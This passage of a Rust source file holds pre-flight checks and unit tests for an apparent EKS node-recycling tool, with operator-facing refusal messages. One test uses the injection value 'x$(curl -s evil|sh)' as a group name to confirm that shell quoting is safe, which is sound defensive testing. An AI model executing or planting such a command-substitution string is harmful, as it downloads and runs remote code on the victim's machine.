//! Pre-flight: decides whether this node may be recycled as asked, before anything is changed.
//!
//! It returns all refusals at once. Each has a name that does not change, and a sentence with what was found and what an operator can do.

use crate::base::ids::InstanceId;
use crate::base::names::SCALE_DOWN_DISABLED_ANNOTATION;
use crate::base::permissions::REVIEW;
use crate::claim::facts::PreflightFacts;
use crate::claim::group_checks::{
    check_begun_surge, check_keeping, check_managed, check_processes, check_protection, check_spot,
    check_stop, check_surge, check_targets, check_updates, check_weights,
};
use crate::claim::instance_checks::{
    advise_owner, check_lifecycle, check_tags, describe_going, describe_gone, describe_missing_node,
};
use crate::claim::notes::write_notes;
use crate::claim::obstacle::{Obstacle, Refusal};
use crate::cluster::autoscaler::{Remover, find_remover};
use crate::cluster::instance::Instance;
use crate::cluster::node::NodeFacts;

/// The number of retries of `claim-node` after which a cluster that never answered counts as unreachable.
/// The retries take some minutes, in which an API server that is only being upgraded comes back.
/// After two more retries the state machine would give up, and the error would not have the advice.
pub const TRIES_OF_AN_ENDPOINT: u32 = 8;

/// The result of pre-flight.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Preflight {
    Go {
        /// Notes for an operator, one sentence each.
        notes: Vec<String>,
    },
    /// The instance is gone, so there is nothing to do.
    AlreadyGone(String),
    /// Every reason to refuse. Reasons that `override` can override come last.
    Refused(Vec<Refusal>),
}

/// Lists all refusals in the text of an error, one a line.
pub fn list_refusals(refusals: &[Refusal]) -> String {
    let lines: Vec<String> = refusals.iter().map(Refusal::to_string).collect();
    lines.join("\n")
}

pub fn check_preflight(facts: &PreflightFacts<'_>) -> Preflight {
    let id = &facts.input.instance_id;
    let Some(instance) = facts.instance else {
        return Preflight::Refused(vec![Obstacle::UnknownInstance.because(format!(
            "EC2 does not know instance {id} in this account and region; check the id, and that the cluster is in the same account and \
             region"
        ))]);
    };
    if let Some(gone) = describe_gone(instance).or_else(|| describe_going(facts, instance)) {
        return Preflight::AlreadyGone(gone);
    }
    let overrides = &facts.input.overrides;
    let is_overridden = |refusal: &Refusal| {
        overrides
            .iter()
            .any(|overrides| refusal.obstacle.is_overridden_by(*overrides))
    };
    let (overridden, refusals): (Vec<Refusal>, Vec<Refusal>) = find_refusals(facts, instance)
        .into_iter()
        .partition(is_overridden);
    if !refusals.is_empty() {
        return Preflight::Refused(refusals);
    }
    let notes = write_notes(facts, &overridden);
    Preflight::Go { notes }
}

/// Returns every reason to refuse. If several reasons have one cause, only the cause is named.
/// Without access to the cluster, a missing Node is not a separate reason. If another tool owns the node, a missing group is not one
/// either.
fn find_refusals(facts: &PreflightFacts<'_>, instance: &Instance) -> Vec<Refusal> {
    let PreflightFacts {
        input, node, group, ..
    } = *facts;
    let id = &input.instance_id;
    let mut refusals = Vec::from_iter(check_cluster(facts));
    let is_seen = refusals.is_empty();
    // The labels of another tool are the kubelet's own word. Members of a group belong to none of these tools.
    let owner = node.filter(|_| group.is_none());
    let owner = owner.and_then(|node| advise_owner(id, node));
    let is_owned = owner.is_some();
    refusals.extend(owner);
    let lifecycle = match group {
        Some(group) => check_lifecycle(facts, instance, group),
        None if is_owned => None,
        None => Some(Obstacle::NoGroup.because(format!(
            "{id} is in no Auto Scaling group, so nothing would replace it; attach it to a group, or drain it by hand"
        ))),
    };
    if node.is_none() && is_seen && lifecycle.is_none() {
        refusals.push(describe_missing_node(input, instance));
    }
    refusals.extend(lifecycle);
    // Also of a node that another execution has begun: its claim would be taken over.
    refusals.extend(check_spot(input, instance));
    refusals.extend(check_begun_surge(input));
    if refusals.is_empty() && !facts.resuming {
        refusals.extend(check_tags(facts, instance));
    }
    if facts.resuming || input.hook.is_some() || input.interrupted_at.is_some() {
        // The checks below decide whether to begin. This node was already begun, by an execution, its group or EC2.
        // To stop here would leave it half done.
        return refusals;
    }
    refusals.extend(node.and_then(|node| check_taints(id, node)));
    if let Some(group) = group {
        refusals.extend(check_updates(facts, group));
        refusals.extend(check_managed(input, facts.group_state));
        refusals.extend(check_weights(input, facts.group_state, group));
        refusals.extend(check_surge(facts, group));
        refusals.extend(check_stop(input, instance));
        refusals.extend(node.and_then(|node| check_keeping(input, node, group)));
        refusals.extend(check_protection(input, facts.group_state, group));
        refusals.extend(check_processes(input, group));
        refusals.extend(check_targets(input, &facts.group_state.balancers));
    }
    refusals
}

/// Checks the access to the cluster. Comes before every check that needs the Node, which cannot be read without access.
fn check_cluster(facts: &PreflightFacts<'_>) -> Option<Refusal> {
    let cluster = &facts.input.cluster_name;
    if let Some(endpoint) = facts.unreachable {
        return Some(Obstacle::UnreachableEndpoint.because(format!(
            "the endpoint {endpoint} of cluster {cluster} does not answer. If it is private, set the module's variable vpc and allow the \
             functions' security group at port 443. If it is public with a list of CIDR blocks, add the functions' addresses to the list"
        )));
    }
    let missing = facts.missing_permissions;
    (!missing.is_empty()).then(|| {
        Obstacle::MissingPermission.because(format!(
            "in cluster {cluster} {}; apply the manifest of the module's output rbac_manifest, and check that the access entry of this \
             function's role names the group {}",
            missing.join(", and "),
            REVIEW.group,
        ))
    })
}

/// Refuses a node that Cluster Autoscaler or Karpenter is already removing.
fn check_taints(id: &InstanceId, node: &NodeFacts) -> Option<Refusal> {
    let name = &node.name;
    match find_remover(node)? {
        Remover::ClusterAutoscaler(key) => Some(Obstacle::RemovedByAutoscaler.because(format!(
            "Cluster Autoscaler is about to remove node {name} ({id}), which has the taint {key}; let it do so, or annotate the node \
             {SCALE_DOWN_DISABLED_ANNOTATION}=true and remove the taint"
        ))),
        Remover::Karpenter(key) => Some(Obstacle::DisruptedByKarpenter.because(format!(
            "Karpenter is about to remove node {name} ({id}), which has the taint {key}; let it do so"
        ))),
    }
}

#[cfg(test)]
mod tests {
    use crate::base::names::STANDBY_TAG;
    use crate::base::permissions::describe_missing;
    use crate::claim::facts::GroupState;
    use crate::cluster::balancers::Balancer;
    use crate::cluster::group::Group;
    use crate::cluster::node_group::NodeGroup;
    use crate::cluster::refresh::Refresh;
    use crate::input::model::Input;
    use serde_json::{Value, json};
    use std::collections::BTreeMap;

    use super::*;
    use crate::base::names::STOPPED_TAG;
    use crate::fixtures::{
        OTHER, claimed, find_permission, group, id, input, instance, member, node, strings, taint,
    };
    use crate::records::claim::Phase;
    use crate::records::node_record::Record;

    /// A pre-flight in which all is well. Each test changes the part that it is about.
    struct World {
        input: Input,
        instance: Option<Instance>,
        group: Option<Group>,
        node: Option<NodeFacts>,
        state: GroupState,
        lifecycle_state: Option<&'static str>,
        group_tags: BTreeMap<String, String>,
        group_propagates: Vec<String>,
        unreachable: Option<&'static str>,
        missing_permissions: Vec<String>,
        resuming: bool,
    }

    fn world() -> World {
        World {
            input: input(json!({})),
            instance: Some(Instance {
                tags: strings([("kubernetes.io/cluster/prod", "owned")]),
                ..instance()
            }),
            group: Some(group()),
            node: Some(node("old")),
            state: GroupState::default(),
            lifecycle_state: None,
            group_tags: strings([("kubernetes.io/cluster/prod", "owned")]),
            group_propagates: vec!["kubernetes.io/cluster/prod".to_owned()],
            unreachable: None,
            missing_permissions: Vec::new(),
            resuming: false,
        }
    }

    impl World {
        fn asked(more: Value) -> Self {
            Self {
                input: input(more),
                ..world()
            }
        }

        fn in_state(state: &str) -> Self {
            Self {
                instance: Some(Instance {
                    state: state.to_owned(),
                    ..instance()
                }),
                ..world()
            }
        }

        fn with_member(state: &str) -> Self {
            let members = vec![member(crate::fixtures::OLD, state), member(OTHER, "InService")];
            Self {
                group: Some(Group { members, ..group() }),
                ..world()
            }
        }

        fn in_group_with_tag(tag: &str) -> Self {
            Self {
                group_tags: strings([("kubernetes.io/cluster/prod", "owned"), (tag, "true")]),
                ..world()
            }
        }

        fn with_spot_instance_in(group: Group) -> Self {
            Self {
                instance: world().instance.map(|instance| Instance {
                    is_spot: true,
                    ..instance
                }),
                group: Some(group),
                ..world()
            }
        }

        fn with_labels<const N: usize>(labels: [(&str, &str); N]) -> Self {
            Self {
                node: Some(NodeFacts {
                    labels: strings(labels),
                    ..node("old")
                }),
                ..world()
            }
        }

        fn tagged<const N: usize>(self, tags: [(&str, &str); N]) -> Self {
            let instance = self.instance.map(|mut instance| {
                instance.tags.extend(strings(tags));
                instance
            });
            Self { instance, ..self }
        }

        fn recorded(self) -> Self {
            let record = Record {
                desired_before: Some(2),
                ..Record::default()
            };
            let node = self.node.map(|node| claimed(node, Phase::Standby, &record));
            Self { node, ..self }
        }

        fn of_no_cluster(self) -> Self {
            let instance = self.instance.map(|instance| Instance {
                tags: BTreeMap::new(),
                ..instance
            });
            Self { instance, ..self }
        }

        fn in_untagged_group(self) -> Self {
            Self {
                group_tags: BTreeMap::new(),
                ..self
            }
        }

        fn without_node(self) -> Self {
            Self { node: None, ..self }
        }

        fn resuming(self) -> Self {
            Self {
                resuming: true,
                ..self
            }
        }

        fn suspending(self, processes: &[&str]) -> Self {
            let suspended = processes.iter().map(|process| (*process).to_owned()).collect();
            Self {
                group: self.group.map(|group| Group { suspended, ..group }),
                ..self
            }
        }

        fn protected(self) -> Self {
            let protect = |mut group: Group| {
                group.members[0].protected_from_scale_in = true;
                group
            };
            Self {
                group: self.group.map(protect),
                ..self
            }
        }

        fn retaining(self) -> Self {
            Self {
                group: self.group.map(|group| Group {
                    retains: true,
                    ..group
                }),
                ..self
            }
        }

        fn with_taint(key: &str) -> Self {
            Self {
                node: Some(NodeFacts {
                    taints: vec![taint(key, "NoSchedule")],
                    ..node("old")
                }),
                ..world()
            }
        }

        fn managed(status: &str) -> Self {
            Self::while_it(GroupState {
                node_group: Some(NodeGroup {
                    name: "blue".to_owned(),
                    status: status.to_owned(),
                }),
                ..GroupState::default()
            })
        }

        fn while_it(state: GroupState) -> Self {
            Self { state, ..world() }
        }

        fn behind(more: Value, others: usize) -> Self {
            let state = GroupState {
                balancers: vec![
                    Balancer {
                        name: "target group web".to_owned(),
                        others,
                    },
                    Balancer {
                        name: "target group api".to_owned(),
                        others: 2,
                    },
                ],
                ..GroupState::default()
            };
            Self {
                state,
                ..Self::asked(more)
            }
        }

        fn names(&self) -> Vec<&'static str> {
            match self.check() {
                Preflight::Refused(refusals) => {
                    refusals.iter().map(|refusal| refusal.obstacle.name()).collect()
                }
                Preflight::Go { .. } => Vec::new(),
                Preflight::AlreadyGone(text) => panic!("{text}"),
            }
        }

        fn on_spot(self) -> Self {
            Self {
                instance: self.instance.map(|instance| Instance {
                    is_spot: true,
                    ..instance
                }),
                ..self
            }
        }

        fn check(&self) -> Preflight {
            check_preflight(&PreflightFacts {
                input: &self.input,
                instance: self.instance.as_ref(),
                group: self.group.as_ref(),
                node: self.node.as_ref(),
                group_state: &self.state,
                lifecycle_state: self.lifecycle_state,
                group_tags: &self.group_tags,
                group_propagates: &self.group_propagates,
                unreachable: self.unreachable,
                missing_permissions: &self.missing_permissions,
                resuming: self.resuming,
            })
        }
    }

    /// The kubelet can write such labels on its own Node.
    #[test]
    fn a_member_of_a_group_with_a_label_of_another_tool_is_recycled() {
        for (label, value) in [
            ("karpenter.sh/nodepool", "spot"),
            ("eks.amazonaws.com/compute-type", "auto"),
            ("eks.amazonaws.com/compute-type", "fargate"),
        ] {
            let checked = World::with_labels([(label, value)]).check();
            assert!(
                matches!(checked, Preflight::Go { .. }),
                "{label}={value}: {checked:?}"
            );
        }
    }

    #[test]
    fn a_node_that_cannot_be_recycled_is_refused_with_advice() {
        let cases = [
            (
                "an unknown instance",
                World {
                    instance: None,
                    group: None,
                    node: None,
                    ..world()
                },
                "EC2 does not know instance i-0aaaaaaaaaaaaaaaa in this account and region",
            ),
            (
                "a node of Karpenter",
                World {
                    group: None,
                    ..World::with_labels([("karpenter.sh/nodepool", "spot")])
                },
                "belongs to Karpenter (node pool spot)",
            ),
            (
                "a node of Auto Mode",
                World {
                    group: None,
                    ..World::with_labels([
                        ("karpenter.sh/nodepool", "system"),
                        ("eks.amazonaws.com/compute-type", "auto"),
                    ])
                },
                "belongs to EKS Auto Mode (node pool system)",
            ),
            (
                "a node of Auto Mode without a pool",
                World {
                    group: None,
                    ..World::with_labels([("eks.amazonaws.com/compute-type", "auto")])
                },
                "belongs to EKS Auto Mode, which replaces its nodes itself",
            ),
            (
                "Fargate",
                World {
                    group: None,
                    ..World::with_labels([("eks.amazonaws.com/compute-type", "fargate")])
                },
                "restart the pod instead",
            ),
            (
                "in no group",
                World {
                    group: None,
                    ..world()
                },
                "is in no Auto Scaling group",
            ),
            (
                "no longer in its group",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    ..world()
                },
                "is no longer a member of group workers",
            ),
            (
                "Standby that recycle-eks did not request",
                World::with_member("Standby"),
                "is Standby in group workers, but recycle-eks did not put it there (no Lease records that)",
            ),
            (
                "such a Standby with a tag of another principal",
                World::with_member("Standby").tagged([(STANDBY_TAG, "2027-01-01T00:00:00Z")]),
                "recycle-eks did not put it there",
            ),
            (
                "entering such a Standby",
                World::with_member("EnteringStandby"),
                "is EnteringStandby in group workers, but recycle-eks did not",
            ),
            (
                "launching",
                World::with_member("Pending:Wait"),
                "only a member that is InService can be recycled",
            ),
            (
                "terminating",
                World::with_member("Terminating:Wait"),
                "group workers is already terminating it",
            ),
            (
                "no Node",
                world().without_node(),
                "is not a node of cluster prod: no Node there has its providerID",
            ),
            (
                "no Node, although the tag names this cluster",
                world()
                    .without_node()
                    .tagged([("kubernetes.io/cluster/prod", "owned")]),
                "is not a node of cluster prod: no Node there has its providerID",
            ),
            (
                "another cluster's by tag",
                world()
                    .without_node()
                    .of_no_cluster()
                    .tagged([("kubernetes.io/cluster/test", "owned")]),
                "has the tags of cluster test and is not a node of cluster prod",
            ),
            (
                "another cluster's managed node",
                world()
                    .without_node()
                    .of_no_cluster()
                    .tagged([("aws:eks:cluster-name", "test")]),
                "has the tags of cluster test",
            ),
            (
                "missing permissions",
                World {
                    missing_permissions: describe_missing(
                        &["patch nodes", "create pods/eviction"].map(find_permission),
                    ),
                    ..world()
                },
                "in cluster prod the group recycle-eks-write may not patch nodes, and the group recycle-eks-evict may not create \
                 pods/eviction; apply the manifest of the module's output rbac_manifest",
            ),
            (
                "protected, with a tag of another principal",
                world().protected().tagged([("recycle-eks:protected-for", OTHER)]),
                "set override [\"scale_in_protection\"]",
            ),
            (
                "protected",
                world().protected(),
                "set override [\"scale_in_protection\"]",
            ),
            (
                "Launch suspended",
                world().suspending(&["Launch"]),
                "group workers has Launch suspended",
            ),
            (
                "both suspended",
                World::asked(json!({"replacement": "after"})).suspending(&[
                    "Terminate",
                    "AZRebalance",
                    "Launch",
                ]),
                "has Launch and Terminate suspended",
            ),
            (
                "stop with Launch suspended",
                World::asked(json!({"dispose": "stop"})).suspending(&["Launch"]),
                "Launch suspended",
            ),
            (
                "an endpoint that never answered",
                World {
                    unreachable: Some("https://ABC.gr7.eu-west-1.eks.amazonaws.com"),
                    ..world().without_node()
                },
                "the endpoint https://ABC.gr7.eu-west-1.eks.amazonaws.com of cluster prod does not answer. If it is private",
            ),
            (
                "in the warm pool",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("Warmed:Stopped"),
                    ..world()
                },
                "is Warmed:Stopped: it waits in the warm pool of group workers",
            ),
            (
                "no longer a member, although the group just listed it",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("InService"),
                    ..world()
                },
                "is no longer a member of group workers",
            ),
            (
                "Cluster Autoscaler removes it",
                World::with_taint("ToBeDeletedByClusterAutoscaler"),
                "Cluster Autoscaler is about to remove node old",
            ),
            (
                "Karpenter removes it",
                World::with_taint("karpenter.sh/disrupted"),
                "Karpenter is about to remove node old",
            ),
            (
                "an instance refresh runs",
                World::while_it(GroupState {
                    refresh: Refresh::under_way("Baking", None),
                    ..GroupState::default()
                }),
                "an instance refresh of group workers is Baking",
            ),
            (
                "a managed group is updated",
                World {
                    input: input(json!({"replacement": "surge"})),
                    ..World::managed("UPDATING")
                },
                "the EKS managed node group blue is UPDATING",
            ),
            (
                "Standby in a managed group",
                World::managed("ACTIVE"),
                "i-0aaaaaaaaaaaaaaaa belongs to the EKS managed node group blue, and whether EKS accepts members in Standby is unknown",
            ),
            (
                "instances have weights",
                World::while_it(GroupState {
                    is_weighted: true,
                    ..GroupState::default()
                }),
                "the instances of group workers have weights",
            ),
            (
                "no room for one more member",
                World {
                    group: Some(Group {
                        desired: 2,
                        max: 2,
                        ..group()
                    }),
                    ..World::asked(json!({"replacement": "surge"}))
                },
                "needs one more; make room: aws autoscaling update-auto-scaling-group --auto-scaling-group-name workers --max-size 3",
            ),
            (
                "zones that are balanced beside one member more",
                World {
                    group: Some(Group { zones: 2, ..group() }),
                    ..World::asked(json!({"replacement": "surge"}))
                },
                "group workers has 2 zones and may terminate another node",
            ),
            (
                "the last target",
                World::behind(json!({}), 0),
                "is the last healthy target of target group web, and EnterStandby takes it out of there",
            ),
            (
                "a node that is not Ready is to be kept",
                World {
                    node: Some(NodeFacts {
                        ready: false,
                        ..node("old")
                    }),
                    ..World::asked(json!({"dispose": "detach"}))
                },
                "node old is not Ready: after 30 minutes it would count as lost",
            ),
            (
                "Spot cannot be stopped",
                World::asked(json!({"dispose": "stop"})).on_spot(),
                "is a one-time Spot instance, which EC2 cannot stop; set dispose \"terminate\"",
            ),
        ];
        for (name, world, expected) in cases {
            let Preflight::Refused(refusals) = world.check() else {
                panic!("{name}: {:?}", world.check())
            };
            let [Refusal { text, .. }] = refusals.as_slice() else {
                panic!("{name}: {refusals:?}")
            };
            assert!(text.contains(expected), "{name}: {text}");
            assert!(text.len() < 400, "{name}: {text}");
        }
    }

    #[test]
    fn the_name_of_a_group_is_one_word_in_the_detach_command() {
        const NAME: &str = "x$(curl -s evil|sh)";
        let mut world = World::asked(json!({"dispose": "stop"}));
        world.node = world.node.map(|node| NodeFacts { ready: false, ..node });
        world.group = world.group.map(|group| Group {
            name: NAME.parse().unwrap(),
            ..group
        });
        let Preflight::Refused(refusals) = world.check() else {
            panic!("{:?}", world.check())
        };
        let text = &refusals[0].text;
        assert!(
            text.contains(&format!("--auto-scaling-group-name '{NAME}' ")),
            "{text}"
        );
    }

    #[test]
    fn all_refusals_are_listed_at_once_and_those_that_can_be_overridden_come_last() {
        let refreshing = GroupState {
            refresh: Refresh::under_way("InProgress", None),
            is_weighted: true,
            ..GroupState::default()
        };
        let everything = World {
            state: refreshing,
            ..World::with_taint("ToBeDeletedByClusterAutoscaler")
                .protected()
                .suspending(&["Launch"])
        };
        let expected = [
            "removed_by_autoscaler",
            "instance_refresh",
            "weighted_group",
            "scale_in_protection",
            "suspended_process",
        ];
        assert_eq!(everything.names(), expected);
        let Preflight::Refused(refusals) = everything.check() else {
            panic!()
        };
        let text = list_refusals(&refusals);
        assert_eq!(text.lines().count(), expected.len());
        assert!(
            text.starts_with("removed_by_autoscaler: Cluster Autoscaler is about to remove node old"),
            "{text}"
        );
    }

    #[test]
    fn of_related_reasons_only_the_cause_is_named() {
        let cases = [
            (
                "without permission the Node was not read",
                World {
                    missing_permissions: describe_missing(&[find_permission("list pods")]),
                    ..world().without_node().protected()
                },
                vec!["missing_permission", "scale_in_protection"],
            ),
            (
                "without an endpoint the Node was not read",
                World {
                    unreachable: Some("https://x"),
                    ..world().without_node().protected()
                },
                vec!["unreachable_endpoint", "scale_in_protection"],
            ),
            (
                "Karpenter's instances are in no group",
                World {
                    group: None,
                    ..World::with_labels([("karpenter.sh/nodepool", "spot")])
                },
                vec!["karpenter"],
            ),
            (
                "an instance without a group and without a Node",
                World {
                    group: None,
                    ..world().without_node()
                },
                vec!["no_group"],
            ),
            (
                "an instance in the warm pool has no Node",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    lifecycle_state: Some("Warmed:Stopped"),
                    ..world().without_node()
                },
                vec!["warm_pool"],
            ),
        ];
        for (name, world, expected) in cases {
            assert_eq!(world.names(), expected, "{name}");
        }
    }

    #[test]
    fn override_applies_to_the_named_obstacles_and_is_noted() {
        let all = World::behind(
            json!({"override": ["scale_in_protection", "suspended_process", "last_target"]}),
            0,
        );
        let Preflight::Go { notes } = all.protected().suspending(&["Launch"]).check() else {
            panic!()
        };
        let overridden = notes
            .iter()
            .filter(|note| note.starts_with("the input overrides "));
        assert_eq!(overridden.count(), 3, "{notes:?}");
        let all_overrides = input(json!({"override": [
            "scale_in_protection", "last_target", "standby_in_managed_group", "running_pods", "suspended_process",
        ]}))
        .overrides;
        for obstacle in Obstacle::ALL {
            let is_overridden = all_overrides
                .iter()
                .any(|overrides| obstacle.is_overridden_by(*overrides));
            let names = [
                "scale_in_protection",
                "suspended_process",
                "last_target",
                "standby_in_managed_group",
            ];
            assert_eq!(is_overridden, names.contains(&obstacle.name()), "{obstacle:?}");
        }
    }

    #[test]
    fn the_last_target_is_refused_unless_the_work_has_begun() {
        assert_eq!(World::behind(json!({}), 1).names(), Vec::<&str>::new());
        assert_eq!(World::behind(json!({}), 0).names(), ["last_target"]);
        assert_eq!(World::behind(json!({}), 0).resuming().names(), Vec::<&str>::new());
    }

    #[test]
    fn every_refusal_is_in_the_documentation() {
        let page = include_str!("../../../../docs/troubleshooting.md");
        for obstacle in Obstacle::ALL {
            let row = format!("| `{}` |", obstacle.name());
            assert!(
                page.contains(&row),
                "docs/troubleshooting.md has no row for {row}"
            );
        }
    }

    #[test]
    fn the_state_machine_retries_more_often_than_the_endpoint_check() {
        let most = include_str!("../../../../terraform/state-machine.tf")
            .split("MaxAttempts     = ")
            .nth(1)
            .and_then(|rest| rest.lines().next())
            .and_then(|number| number.parse::<u32>().ok());
        assert!(most.is_some_and(|most| TRIES_OF_AN_ENDPOINT < most), "{most:?}");
    }

    fn on(state: &'static str, more: Value) -> World {
        World {
            input: input(more),
            lifecycle_state: Some(state),
            ..World::with_member(state)
        }
    }

    fn hook() -> Value {
        json!({"hook": {"name": "recycle-eks", "auto_scaling_group_name": "workers", "destination": "EC2"}})
    }

    #[test]
    fn a_member_that_the_hook_holds_is_drained_in_any_state_of_its_group() {
        for state in ["Terminating", "Terminating:Wait", "Terminating:Retained"] {
            assert!(on(state, hook()).names().is_empty(), "{state}");
            let busy = World {
                state: GroupState {
                    is_weighted: true,
                    refresh: Refresh::under_way("InProgress", None),
                    ..GroupState::default()
                },
                ..on(state, hook())
            };
            assert!(
                busy.names().is_empty(),
                "{state}: the group's state is the cause of the termination"
            );
        }
        assert_eq!(on("InService", hook()).names(), ["not_terminating"]);
    }

    /// `Terminating:Proceed` comes before `Terminating:Retained`, too.
    #[test]
    fn a_member_that_no_longer_waits_for_its_hook_is_gone_unless_its_group_may_retain_it() {
        for (state, retains, is_gone) in [
            ("Terminating:Proceed", false, true),
            ("Terminating:Proceed", true, false),
            ("Terminated", false, true),
            ("Terminated", true, true),
        ] {
            let world = on(state, hook());
            let world = if retains { world.retaining() } else { world };
            let found = world.check();
            let is_as_expected = match &found {
                Preflight::AlreadyGone(_) => is_gone,
                Preflight::Go { .. } => !is_gone,
                Preflight::Refused(_) => false,
            };
            assert!(is_as_expected, "{state} {retains}: {found:?}");
        }
    }

    #[test]
    fn a_missing_cluster_tag_is_refused_before_anything_is_changed() {
        let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
        let held = || on("Terminating:Wait", hook());
        let (none, tag) = (Vec::<&str>::new(), "missing_cluster_tag");
        for (name, world, expected) in [
            ("the instance", world().of_no_cluster(), vec![tag]),
            ("the group", world().in_untagged_group(), vec![tag]),
            (
                "both",
                world().of_no_cluster().in_untagged_group(),
                vec![tag, tag],
            ),
            (
                "an instance that the hook holds",
                held().of_no_cluster(),
                vec![tag],
            ),
            (
                "the group of an instance that the hook holds",
                held().in_untagged_group(),
                none.clone(),
            ),
            (
                "the group of such an instance, if it retains instances",
                held().in_untagged_group().retaining(),
                vec![tag],
            ),
            (
                "EC2 takes it away",
                World::asked(interrupted).on_spot().in_untagged_group(),
                none.clone(),
            ),
            (
                "the work has begun",
                world().of_no_cluster().in_untagged_group().resuming(),
                none.clone(),
            ),
            (
                "an instance of another cluster, with a Node here",
                world()
                    .of_no_cluster()
                    .tagged([("kubernetes.io/cluster/test", "owned")]),
                vec!["another_cluster"],
            ),
            (
                "shared by two clusters",
                world().tagged([("kubernetes.io/cluster/test", "owned")]),
                none.clone(),
            ),
        ] {
            assert_eq!(world.names(), expected, "{name}");
        }
        for (more, expected) in [
            (json!({}), vec![tag]),
            (json!({"replacement": "after"}), none.clone()),
        ] {
            let beside = World {
                state: GroupState {
                    untagged: vec![id(OTHER)],
                    ..GroupState::default()
                },
                ..World::asked(more.clone())
            };
            assert_eq!(beside.names(), expected, "{more}");
        }
        let Preflight::Refused(refusals) = world().of_no_cluster().in_untagged_group().check() else {
            panic!()
        };
        let text = list_refusals(&refusals);
        let instance = format!(
            "--resources {} --tags 'Key=kubernetes.io/cluster/prod,Value=owned'",
            crate::fixtures::OLD
        );
        assert!(text.contains(&instance), "{text}");
        assert!(text.contains("aws autoscaling create-or-update-tags"), "{text}");
    }

    #[test]
    fn the_state_of_the_group_holds_back_an_execution_unless_ec2_takes_the_instance_away() {
        let interrupted = json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"});
        for (more, state, expected) in [
            (interrupted.clone(), "InService", vec![]),
            (interrupted, "Terminating:Wait", vec![]),
            (json!({"urgency": "spot"}), "InService", vec!["instance_refresh"]),
            (
                json!({}),
                "Terminating:Wait",
                vec!["terminating", "instance_refresh"],
            ),
        ] {
            let busy = World {
                state: GroupState {
                    refresh: Refresh::under_way("InProgress", None),
                    ..GroupState::default()
                },
                ..on(state, more.clone()).on_spot()
            };
            assert_eq!(busy.names(), expected, "{more} {state}");
        }
    }

    #[test]
    fn the_urgency_of_a_spot_instance_is_refused_for_any_other() {
        let (urgent, interrupted) = (
            json!({"urgency": "spot"}),
            json!({"urgency": "spot", "interrupted_at": "2027-01-01T00:02:00Z"}),
        );
        for (more, is_spot, expected) in [
            (json!({}), false, vec![]),
            (json!({}), true, vec![]),
            (urgent.clone(), true, vec![]),
            (urgent, false, vec!["not_spot"]),
            (interrupted.clone(), true, vec![]),
            (interrupted, false, vec!["not_spot"]),
        ] {
            let asked = World::asked(more.clone());
            let asked = if is_spot { asked.on_spot() } else { asked };
            assert_eq!(asked.names(), expected, "{more} {is_spot}");
        }
        assert_eq!(on("Terminating:Wait", hook()).names(), Vec::<&str>::new());
    }

    #[test]
    fn an_instance_that_is_gone_needs_no_work() {
        let stopped = World::in_state("stopped").tagged([(STOPPED_TAG, "2027-01-01T00:00:00Z")]);
        let cases = [
            (World::in_state("terminated"), "is already terminated"),
            (
                World {
                    group: None,
                    ..World::in_state("shutting-down").without_node()
                },
                "is already shutting-down",
            ),
            (
                stopped.without_node(),
                "was already stopped by recycle-eks at 2027-01-01T00:00:00Z",
            ),
        ];
        for (world, expected) in cases {
            let Preflight::AlreadyGone(text) = world.check() else {
                panic!("{expected}: {:?}", world.check())
            };
            assert!(text.contains(expected), "{text}");
        }
    }

    #[test]
    fn overridden_obstacles_and_changes_of_an_earlier_execution_are_no_reason_to_refuse() {
        let mut protecting = world().protected();
        protecting.group.as_mut().unwrap().protects_new_members = true;
        let cases = [
            ("all is well", world()),
            (
                "protection is overridden",
                World::asked(json!({"override": ["scale_in_protection"]})).protected(),
            ),
            ("its group protects every member", protecting),
            (
                "recycle-eks protects it while another node is restored",
                World::while_it(GroupState {
                    protected_for: Some(id(OTHER)),
                    ..GroupState::default()
                })
                .protected(),
            ),
            (
                "suspended processes are overridden",
                World::asked(json!({"override": ["suspended_process"]})).suspending(&["Launch", "Terminate"]),
            ),
            (
                "another process may be suspended",
                world().suspending(&["AZRebalance", "ReplaceUnhealthy", "Terminate"]),
            ),
            (
                "stopping needs no Terminate",
                World::asked(json!({"dispose": "stop"})).suspending(&["Terminate"]),
            ),
            ("Spot is terminated", world().on_spot()),
            (
                "Standby by an earlier execution",
                World::with_member("Standby").recorded(),
            ),
            (
                "EnteringStandby by an earlier execution",
                World::with_member("EnteringStandby").recorded().resuming(),
            ),
            (
                "termination by an earlier execution",
                World::with_member("Terminating:Wait").recorded().resuming(),
            ),
            ("protected since the work began", world().protected().resuming()),
            (
                "suspended since the work began",
                world().suspending(&["Launch"]).resuming(),
            ),
        ];
        for (name, world) in cases {
            assert!(
                matches!(world.check(), Preflight::Go { .. }),
                "{name}: {:?}",
                world.check()
            );
        }
    }

    #[test]
    fn notes_name_what_an_operator_should_know() {
        let sized = |min, desired, max| World {
            group: Some(Group {
                min,
                desired,
                max,
                ..group()
            }),
            ..world()
        };
        let cases = [
            ("room enough", world(), vec![]),
            (
                "min = desired = max",
                sized(2, 2, 2),
                vec!["the node cannot be restored from Standby"],
            ),
            (
                "at max",
                sized(1, 4, 4),
                vec!["group workers is at its maximum of 4"],
            ),
            (
                "behind a balancer",
                World::behind(json!({}), 1),
                vec!["EnterStandby takes it out of target group web, target group api at once"],
            ),
            (
                "behind a balancer, replaced after",
                World::behind(json!({"replacement": "after"}), 1),
                vec![],
            ),
            (
                "the last target, replaced after",
                World::behind(json!({"replacement": "after"}), 0),
                vec!["it is the last healthy target of target group web, target group api"],
            ),
            (
                "a managed group that is not updated",
                World {
                    input: input(json!({"replacement": "surge"})),
                    ..World::managed("ACTIVE")
                },
                vec![
                    "replacement \"surge\" fits group workers: it belongs to the EKS managed node group blue",
                ],
            ),
            (
                "Standby in a managed group",
                World {
                    input: input(json!({"override": ["standby_in_managed_group"]})),
                    ..World::managed("ACTIVE")
                },
                vec!["the input overrides standby_in_managed_group"],
            ),
            (
                "not Ready",
                World {
                    node: Some(NodeFacts {
                        ready: false,
                        not_ready_since: Some(crate::fixtures::at(0)),
